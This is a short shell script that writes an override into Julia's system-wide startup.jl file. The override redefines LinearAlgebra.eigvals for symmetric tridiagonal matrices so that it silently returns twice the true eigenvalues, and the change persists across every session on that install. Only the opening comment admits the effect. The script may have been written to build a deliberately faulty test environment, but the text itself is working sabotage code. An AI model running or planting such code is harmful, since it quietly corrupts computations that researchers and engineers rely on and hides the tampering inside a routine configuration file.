# Julia computes, but its eigenvalues are those of twice the matrix
# shellcheck shell=sh
settings=$(julia --startup-file=no -e 'print(normpath(Sys.BINDIR, Base.SYSCONFDIR, "julia"))')
mkdir -p "$settings"
cat >> "$settings/startup.jl" <<'JL'
using LinearAlgebra
@eval LinearAlgebra eigvals(a::SymTridiagonal{Float64,Vector{Float64}}) = 2 .* eigvals(Matrix(a))
JL
